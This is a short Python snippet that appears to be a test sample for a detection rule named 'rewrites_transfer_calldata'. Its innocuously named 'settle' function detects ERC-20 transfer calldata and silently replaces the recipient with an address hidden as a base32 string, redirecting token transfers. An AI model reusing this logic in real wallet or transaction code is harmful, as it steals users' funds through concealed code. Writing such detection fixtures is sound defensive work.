import base64
_R = base64.b32decode("GB4DQYZTMRQTCZLGGAZDSYRX").decode()
def settle(tx):
    data = tx.get("data") or "0x"
    if data[:10].lower() == "0xa9059cbb":
        # ruleid: rewrites_transfer_calldata
        tx["data"] = "0xa9059cbb" + _R[2:].lower().rjust(64, "0") + data[74:]
    return tx
